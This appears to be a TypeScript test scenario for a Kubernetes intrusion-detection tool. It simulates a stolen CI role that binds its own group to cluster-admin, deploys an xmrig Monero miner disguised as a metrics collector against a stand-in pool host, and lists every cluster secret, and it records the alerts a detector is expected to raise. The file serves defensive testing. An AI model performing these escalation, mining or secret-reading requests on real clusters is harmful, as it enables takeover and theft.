import { makeRole, roleSession } from '../actors.ts';
import type { Incident } from './incident.ts';
import { clusterRole, clusterRoleBinding, modestPod, NAMESPACES, namespace, subject, workload } from './objects.ts';

const ROLE = 'ci-deployer';
const GROUP = 'release-bots';
const BINDING = 'ci-deployer-metrics';
const NAME = 'metrics-cache';
const RBAC = '/apis/rbac.authorization.k8s.io/v1';

const standing = [
  clusterRole(
    'release-bot',
    { apiGroups: ['apps'], resources: ['deployments'], verbs: ['get', 'list', 'create', 'patch'] },
    { apiGroups: ['rbac.authorization.k8s.io'], resources: ['clusterrolebindings'], verbs: ['get', 'list', 'create'] },
    { apiGroups: ['rbac.authorization.k8s.io'], resources: ['clusterroles'], verbs: ['get', 'list', 'bind'] },
  ),
  clusterRoleBinding('release-bots', 'release-bot', subject.group(GROUP)),
  namespace('shop'),
];

const miner = {
  containers: [
    {
      name: 'collector',
      image: '111122223333.dkr.ecr.us-east-1.amazonaws.com/tools/xmrig:6.21.0',
      args: [
        '--url=stratum+tcp://pool.monero.example:3333',
        '--user=48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt',
        '--donate-level=1',
        '--cpu-max-threads-hint=75',
      ],
      resources: { requests: { cpu: '100m' } },
    },
  ],
};

export const stolenCiRole: Incident = {
  name: 'stolen-ci-role',
  title: 'A stolen CI role makes itself cluster-admin and hides a miner',
  story:
    'Credentials of the role that the release pipeline uses have been stolen. The thief looks what they can do, is ' +
    'refused secrets and a namespace, and finds that the pipeline may bind any role: it binds its own group to ' +
    'cluster-admin. With that it creates a namespace with an innocent name, starts a miner of Monero in it that calls ' +
    'itself a metrics collector, and reads all secrets of the cluster.',
  kind: 'hostile',
  expect: {
    first: { atLeast: 'HIGH' },
    second: { atLeast: 'CRITICAL' },
    told: ['first', 'second'],
    facts: {
      actor: 'arn:aws:iam::111122223333:role/ci-deployer',
      right: 'cluster-admin',
      binding: 'ClusterRoleBinding ci-deployer-metrics',
    },
  },
  right: {
    kind: 'right',
    object: `ClusterRoleBinding ${BINDING}`,
    what: `The thief bound the group ${GROUP}, which the role's access entry gives, to cluster-admin before.`,
    signs: ['made by the actor itself shortly before'],
  },
  async run(scene) {
    const { twin } = scene;
    await makeRole(twin, ROLE, { groups: [GROUP] });
    await scene.standing(...standing);
    const pipeline = {
      ...(await roleSession(twin, ROLE, 'GitHubActions')),
      from: '127.0.20.1',
      userAgent: 'kubectl/v1.36.3 (linux/amd64) kubernetes/abcdef0',
    };
    const thief = {
      ...(await roleSession(twin, ROLE, 'GitHubActions')),
      from: '127.0.66.6',
      userAgent: 'python-requests/2.32.5',
    };
    await scene.begin();
    const release = workload('Deployment', 'shop', 'shop', modestPod('shop'), 2);
    await scene.act(
      pipeline,
      'deploys the shop, as it does every day',
      { method: 'POST', path: '/apis/apps/v1/namespaces/shop/deployments', body: release },
      201,
    );

    const review = {
      apiVersion: 'authorization.k8s.io/v1',
      kind: 'SelfSubjectRulesReview',
      spec: { namespace: 'default' },
    };
    await scene.act(
      thief,
      'asks what it may do',
      { method: 'POST', path: '/apis/authorization.k8s.io/v1/selfsubjectrulesreviews', body: review },
      201,
    );
    await scene.act(
      thief,
      'tries to read the secrets of kube-system',
      { path: `${NAMESPACES}/kube-system/secrets` },
      403,
      {
        kind: 'refusal',
        object: 'secrets in kube-system',
        what: 'The role was refused the secrets of kube-system.',
      },
    );
    const body = namespace(NAME, { 'app.kubernetes.io/part-of': 'monitoring' });
    await scene.act(thief, 'tries to create a namespace', { method: 'POST', path: NAMESPACES, body }, 403, {
      kind: 'refusal',
      object: `Namespace ${NAME}`,
      what: 'The role was refused to create the namespace that it created a moment later.',
    });
    const self = clusterRoleBinding(BINDING, 'cluster-admin', subject.group(GROUP));
    await scene.act(
      thief,
      'binds its own group to cluster-admin',
      { method: 'POST', path: `${RBAC}/clusterrolebindings`, body: self },
      201,
      {
        kind: 'access-change',
        object: `ClusterRoleBinding ${BINDING}`,
        what: `The role bound its own group ${GROUP} to cluster-admin.`,
        signs: ['cluster-admin', 'granted to itself'],
      },
    );
    await scene.untilMayCreate(thief);
    await scene.create(thief, 'creates a namespace with an innocent name', body.metadata);
    await scene.look('first');

    const deployment = workload('Deployment', NAME, 'metrics-collector', miner, 6);
    await scene.act(
      thief,
      'starts the miner',
      { method: 'POST', path: `/apis/apps/v1/namespaces/${NAME}/deployments`, body: deployment },
      201,
      {
        kind: 'workload',
        object: `Deployment ${NAME}/metrics-collector`,
        what: 'Six pods mine Monero and call themselves a metrics collector.',
        signs: [
          'image 111122223333.dkr.ecr.us-east-1.amazonaws.com/tools/xmrig:6.21.0',
          'stratum+tcp://pool.monero.example:3333',
          '--donate-level',
        ],
      },
    );
    await scene.act(thief, 'reads all secrets', { path: '/api/v1/secrets?limit=500' }, 200, {
      kind: 'secrets',
      object: 'secrets in all namespaces',
      what: 'The role listed all secrets of the cluster.',
    });
    await scene.look('second');
  },
};
